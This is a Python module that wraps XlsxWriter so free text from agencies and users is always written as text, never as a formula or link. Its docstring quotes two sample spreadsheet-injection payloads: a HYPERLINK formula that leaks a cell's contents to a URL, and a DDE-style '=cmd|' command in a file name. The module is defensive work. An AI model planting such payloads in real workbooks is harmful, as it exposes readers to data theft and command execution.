"""The one rule for every workbook the product makes with XlsxWriter: text is text.

XlsxWriter's ``write()`` by default turns a string that starts with ``=`` (or is ``{=...}``) into
a formula, one that looks like a URL (``http://``, ``mailto:``, ``external:``) into a hyperlink,
and, when asked, one that looks like a number into a number. Free text in this product comes from
agencies, chronologies and whoever typed a case name, so a return's progress text
``{=HYPERLINK("http://…?leak="&B3)}`` or a file named ``=cmd|' /C calc'!A0.xlsx`` would become
live content in the Board report. ``new_workbook`` switches every such conversion off and gives
worksheets whose ``write()`` of any ``str`` is ``write_string``: a formula or a link is written
only on purpose, with ``write_formula`` / ``write_array_formula`` / ``write_url``.
"""
from __future__ import annotations

import io

from pathlib import Path

import xlsxwriter
from xlsxwriter.worksheet import Worksheet

TEXT_ONLY = {"strings_to_numbers": False, "strings_to_formulas": False, "strings_to_urls": False}
# Column widths are counted in the default font's digits. Every cell here is Arial 10, so that is the
# default too: a machine without Calibri (LibreOffice substitutes a font a third wider) would otherwise
# print every column a third wider than Excel does, and the page rule (workbook.xlsx.pages) would be wrong.
DEFAULT_FONT = {"default_format_properties": {"font_name": "Arial", "font_size": 10}}


class TextWorksheet(Worksheet):
    """A worksheet whose ``write()`` (and so ``merge_range``, ``write_row``, table data) writes
    every string as a string, whatever the workbook's options say."""

    def _write_token_as_string(self, token, row: int, col: int, *args):
        if token == "":
            return self._write_blank(row, col, *args)
        return self._write_string(row, col, *args)


def new_workbook(path: str | Path, **options) -> xlsxwriter.Workbook:
    """An XlsxWriter workbook at ``path`` that writes free text only as text. ``options`` are
    XlsxWriter's own; the text-only ones cannot be turned back on here. ``path`` may be a BytesIO.

    Always assembled in memory and written at ``close()`` in one write: XlsxWriter's default
    writes every part as a plain temp file in the system's temp folder (a copy of the case's data
    that a kill leaves there, even for a document then encrypted), and a zip it opens on ``path``
    that a full disk interrupts is closed again at exit, printing a traceback."""
    wb = xlsxwriter.Workbook(io.BytesIO() if not hasattr(path, "write") else path,
                             {**DEFAULT_FONT, **options, "in_memory": True, **TEXT_ONLY})
    if not hasattr(path, "write"):
        close, buf = wb.close, wb.filename

        def close_to_file():
            close()
            Path(path).write_bytes(buf.getvalue())  # a full disk fails here, as an OSError, nothing left open
        wb.close = close_to_file
    wb.worksheet_class = TextWorksheet
    return wb
